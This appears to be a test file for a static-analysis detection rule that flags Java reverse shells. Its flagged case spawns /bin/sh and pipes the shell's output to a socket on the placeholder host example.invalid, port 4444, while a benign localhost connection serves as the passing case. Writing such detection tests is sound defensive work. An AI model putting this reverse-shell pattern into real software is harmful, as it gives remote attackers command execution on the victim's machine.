class A {
    void shell() throws Exception {
        // ruleid: java-shell-over-socket
        Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
        // ruleid: java-shell-over-socket
        Socket s = new Socket("example.invalid", 4444);
        copy(p.getInputStream(), s.getOutputStream());
    }
    void honest() throws Exception {
        // ok: java-shell-over-socket
        Socket s = new Socket("localhost", 25);
        s.getOutputStream().write(1);
    }
}
